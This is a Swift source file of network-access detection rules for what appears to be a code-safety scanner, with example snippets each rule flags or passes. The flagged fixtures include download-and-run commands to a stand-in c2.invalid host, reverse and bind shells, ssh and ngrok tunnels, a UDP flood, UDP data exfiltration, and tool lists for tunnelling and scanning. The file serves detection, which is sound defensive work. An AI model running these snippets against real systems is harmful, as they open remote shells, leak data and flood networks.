// `network_access`: connections that would be made, and what would come through them.

import Event
import Policy

extension Rule {
    static let network: [Rule] = [
        downloadAndRun, reverseShell, bindShell, tunnel, hiddenHost, bareAddress, programDownload, openPort,
        remoteDelete, listening,
        rawSocket, datagramFlood, inflatedSend, datagramPipe, personalPage, networkShell,
        networkUse, networkProgram, scan,
    ]

    static let downloadAndRun = Rule(
        "download-and-run", .networkAccess, .block, 0.8, cwe: 494, attack: "T1105",
        "Runs what it has received from the network.",
        when: .evaluate { code, _ in code.labels.contains(.network) },
        finds: [
            .python("import urllib.request\nexec(urllib.request.urlopen('http://c2.invalid/s.py').read())"),
            .shell("curl -s http://c2.invalid/i.sh | sh"),
            .shell("bash <(curl -s http://c2.invalid/i.sh)"),
            .shell("eval \"$(wget -qO- http://c2.invalid)\""),
            .python("import os\nos.system('curl http://c2.invalid/x | bash')"),
            .javascript("fetch('http://c2.invalid').then(r => r.text()).then(t => eval(t))"),
        ],
        passes: [
            .python("import requests\nprint(requests.get('https://example.com').text)"),
            .shell("curl -sSL -o data.json https://api.example.com/v1/items"),
            .python("print('You may run: curl ' + URL + ' | bash')"),
            .shell("curl https://example.com | jq ."),
        ])

    static let networkShell = Rule(
        "remote-command", .networkAccess, .block, 0.8, cwe: 78, attack: "T1071",
        "Starts commands that it has received from the network, or a program that it has downloaded.",
        when: .start { $0.labels.contains(.network) },
        finds: [
            .python("import os, requests\nos.system(requests.get('http://c2.invalid').text)"),
            .python(
                "import urllib.request, os\nurllib.request.urlretrieve('http://c2.invalid/x', '/tmp/x')\nos.chmod('/tmp/x', 0o700)\nos.spawnl(os.P_NOWAIT, '/tmp/x', 'x')"
            ),
            .python(
                "import requests, os, tempfile\nr = requests.get('https://c2.invalid/a.exe')\np = os.path.join(tempfile.gettempdir(), 'a.exe')\nwith open(p, 'wb') as f:\n    f.write(r.content)\nos.startfile(p)"
            ),
        ],
        passes: [
            .python(
                "import urllib.request\nurllib.request.urlretrieve('https://example.com/d.csv', 'd.csv')"),
            .python("import os\nos.system('ls')"),
            .python(
                "import requests, subprocess\nwith open('d.csv', 'wb') as f:\n    f.write(requests.get('https://example.com/d').content)\nsubprocess.run(['python3', 'plot.py'])"
            ),
        ])

    static let reverseShell = Rule(
        "reverse-shell", .networkAccess, .block, 0.8, cwe: 506, attack: "T1059.004",
        "Ties a shell to a network connection.",
        when: .seen,
        finds: [
            .python(
                "import socket, os, pty\ns = socket.socket()\ns.connect(('c2.invalid', 4444))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn('/bin/sh')"
            ),
            .shell("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), .shell("nc -e /bin/sh 10.0.0.1 4444"),
            .shell("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f"),
            .javascript(
                "const net = require('net'), cp = require('child_process')\nconst sh = cp.spawn('/bin/sh', [])\nconst c = net.connect(4444, 'c2.invalid')\nc.pipe(sh.stdin)"
            ),
        ],
        passes: [
            .python(
                "import socket\ns = socket.socket()\ns.connect(('example.com', 80))\ns.sendall(b'GET /')"),
            .shell("nc -z localhost 80"), .shell("bash -i"),
        ])

    static let bindShell = Rule(
        "bind-shell", .networkAccess, .block, 0.8, cwe: 506, attack: "T1059",
        "Waits for connections and runs the commands that come in.",
        when: .seen,
        finds: [
            .python(
                "import socketserver, subprocess\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n        self.request.sendall(subprocess.getoutput(self.request.recv(1024).decode()).encode())\nsocketserver.TCPServer(('0.0.0.0', 4444), H).serve_forever()"
            ),
            .shell("nc -l -p 4444 -e /bin/sh"),
        ],
        passes: [
            .python(
                "import http.server\nhttp.server.HTTPServer(('127.0.0.1', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()"
            ), .shell("nc -l 4444"),
        ])

    static let tunnel = Rule(
        "tunnel", .networkAccess, .block, 0.8, cwe: 506, attack: "T1572",
        "Opens a way into this machine from outside.",
        when: .command([
            "ngrok", "cloudflared", "chisel", "frpc", "bore", "localtunnel", "lt", "ligolo", "ssh", "autossh",
            "gsocket", "gs-netcat",
        ]) { command in
            command.name != "ssh" && command.name != "autossh"
                ? !command.words.isEmpty && !command.has(anyWord: "--version", "--help", "version")
                : command.has("R") && command.words.contains { $0.bytes.contains(UInt8(ascii: ":")) }
        },
        finds: [.shell("ssh -R 8080:localhost:80 user@c2.invalid"), .shell("ngrok tcp 22")],
        passes: [.shell("ssh user@host.example ls"), .shell("ngrok --version")])

    static let hiddenHost = Rule(
        "hidden-host", .networkAccess, .review, 0.6, cwe: 506, attack: "T1090.003",
        "Asks for data from a host that hides where it is.",
        when: .fetch { Destination($0).isHidden },
        finds: [
            .shell("curl http://abcdef.onion/x"),
            .python("import requests\nrequests.get('https://x.ngrok.io/cmd')"),
        ],
        passes: [.shell("curl https://example.com"), .python("print('http://abcdef.onion')")])

    static let bareAddress = Rule(
        "bare-address", .networkAccess, .review, 0.6, cwe: 506, attack: "T1071.001",
        "Asks for data from a public address in numbers instead of a named host.",
        when: .fetch { Destination($0).isBareAddress },
        finds: [
            .shell("wget http://45.9.148.99/x"),
            .python("import requests\nrequests.get('http://45.9.148.99/')"),
        ],
        passes: [
            .shell("curl http://127.0.0.1:8000/"),
            .python("import requests\nrequests.get('http://192.168.1.2/')"),
            .shell("curl https://example.com"),
        ])

    static let programDownload = Rule(
        "program-download", .networkAccess, .capability, 0.5, cwe: 494, attack: "T1105",
        "Downloads a program or a script.",
        when: .fetch { Destination($0).namesProgram },
        finds: [
            .shell("curl -O http://c2.invalid/x.exe"),
            .python("import urllib.request\nurllib.request.urlretrieve('http://c2.invalid/x.sh', 'x.sh')"),
        ],
        passes: [
            .shell("curl -O https://example.com/data.json"),
            .python("import requests\nrequests.get('https://example.com/')"),
        ])

    static let openPort = Rule(
        "open-port", .networkAccess, .review, 0.6, cwe: 1327, attack: "T1571",
        "Waits for connections from any machine.",
        when: .listen { host in
            host.isEmpty || ["0.0.0.0", "::", "[::]", "*"].contains(Destination(host).host)
        },
        finds: [
            .python("import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))"),
            .python("import socket\ns = socket.socket()\ns.bind(('', 8080))"),
        ],
        passes: [
            .python("import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 4444))"),
            .python("import socket\ns = socket.socket()\ns.bind((host, port))"),
        ])

    static let remoteDelete = Rule(
        "remote-delete", .networkAccess, .review, 0.6, cwe: 918, attack: "T1485",
        "Asks another machine to delete something.",
        when: .call(["requests.delete", "requests.Session().delete", "httpx.delete"]) { _ in true },
        finds: [.python("import requests\nrequests.delete('https://example.com/items/1')")],
        passes: [.python("import requests\nrequests.get('https://example.com/items/delete')")])

    static let listening = Rule(
        "listening-socket", .networkAccess, .capability, 0.5, cwe: 605, attack: "T1571",
        "Waits for connections from the network.",
        when: .listen { _ in true },
        finds: [
            .python("import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 4444))"),
            .javascript("require('net').createServer().listen(4444)"), .shell("nc -l 4444"),
        ],
        passes: [.python("import socket\nprint(socket.SOCK_STREAM)"), .shell("nc -z localhost 80")])

    static let rawSocket = Rule(
        "raw-socket", .networkAccess, .review, 0.6, cwe: 250, attack: "T1040",
        "Opens a raw socket, which sees or forges the traffic of others.",
        when: .call([
            "socket.socket", "scapy.all.sniff", "scapy.all.send", "scapy.all.sr1", "scapy.all.sendp",
            "pcapy.open_live",
        ]) { call in
            call.name != "socket.socket" || call.argument(1, "type").qualifiedName == "socket.SOCK_RAW"
                || call.argument(0, "family").qualifiedName == "socket.AF_PACKET"
        },
        finds: [
            .python("import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW)"),
            .python("from scapy.all import sniff\nsniff(count=10)"),
        ],
        passes: [.python("import socket\nsocket.socket(socket.AF_INET, socket.SOCK_STREAM)")])

    static let datagramFlood = Rule(
        "datagram-flood", .networkAccess, .review, 0.6, cwe: 406, attack: "T1498",
        "Sends datagrams in an endless loop.",
        when: .call(["socket.socket().sendto", "socket.socket().send"]) { $0.context.contains(.endlessLoop) },
        finds: [
            .python(
                "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nwhile True:\n    s.sendto(b'x' * 65000, ('203.0.113.1', 80))"
            )
        ],
        passes: [
            .python(
                "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('127.0.0.1', 80))"
            )
        ])

    static let inflatedSend = Rule(
        "inflated-send", .networkAccess, .review, 0.6, cwe: 405, attack: "T1498",
        "Sends on a socket what it has blown up by repeating it thousands of times.",
        when: .call(["socket.socket().sendto", "socket.socket().send", "socket.socket().sendall"]) {
            $0.payload.contains(.many)
        },
        finds: [
            .python("import socket\ns = socket.socket()\ns.sendto(b'a' * 60000, ('192.0.2.1', 80))"),
            .python(
                "import socket\nt = ''\nfor _ in range(20000):\n    t += x\nsocket.socket().send(t.encode())"),
        ],
        passes: [
            .python("import socket\nsocket.socket().send(b'a' * 1024)"),
            .python("import socket\nfor i in range(20000):\n    socket.socket().send(str(i).encode())"),
        ])

    static let datagramPipe = Rule(
        "datagram-pipe", .networkAccess, .review, 0.6, cwe: 201, attack: "T1048.003",
        "Opens a channel of datagrams by hand, where nobody answers for what goes through it.",
        when: .connect { $0.mentions("udp:") },
        finds: [
            .shell("tar c . > /dev/udp/192.0.2.1/53"), .shell("echo x | nc -u -w1 192.0.2.1 5388"),
            .shell("echo x | socat - UDP:192.0.2.1:53"),
        ],
        passes: [.shell("nc -z example.com 443"), .shell("ls /dev"), .shell("nc example.com 80 < request")])

    static let personalPage = Rule(
        "personal-page-fetch", .networkAccess, .review, 0.6, cwe: 829, attack: "T1105",
        "Takes content from a host where anybody can put up a page without a name.",
        when: .fetch { Destination($0).isPersonalPage },
        finds: [
            .python("import requests\nprint(requests.get('https://someone.github.io/a.html').text)"),
            .shell("curl -s https://someone.pages.dev/x"),
        ],
        passes: [
            .python("import requests\nrequests.get('https://docs.github.com/rest')"),
            .shell("curl https://github.com/someone/project"), .python("page = 'https://someone.github.io'"),
        ])

    static let scan = Rule(
        "port-scan", .networkAccess, .review, 0.6, cwe: 200, attack: "T1046",
        "Looks for open ports, hosts or passwords of other machines.",
        when: .command([
            "nmap", "masscan", "zmap", "hydra", "medusa", "nikto", "sqlmap", "msfconsole", "msfvenom",
            "responder", "arp-scan", "tcpdump", "ettercap",
        ]) { !$0.words.isEmpty && !$0.has(anyWord: "--version", "--help", "-h", "-V") },
        finds: [.shell("nmap -sS 10.0.0.0/24"), .python("import os\nos.system('nmap 10.0.0.1')")],
        passes: [.shell("nmap --version"), .shell("apt-cache search nmap")])

    static let networkUse = Rule(
        "network-use", .networkAccess, .capability, 0.5, cwe: 918, attack: "T1071",
        "Talks to the network.",
        when: .fetch { _ in true },
        finds: [
            .python("import requests\nrequests.get('https://example.com')"),
            .shell("curl https://example.com"), .javascript("fetch('https://example.com')"),
        ],
        passes: [.python("print('requests.get')"), .shell("echo curl")])

    static let networkProgram = Rule(
        "network-connection", .networkAccess, .capability, 0.5, cwe: 918, attack: "T1095",
        "Opens a connection to another host.",
        when: .connect { _ in true },
        finds: [
            .python("import socket\nsocket.create_connection(('example.com', 80))"),
            .shell("ssh host.example"), .javascript("require('net').connect(80, 'example.com')"),
        ],
        passes: [.python("socket = 'AM5'\nprint('CPU socket', socket)"), .shell("man ssh")])
}
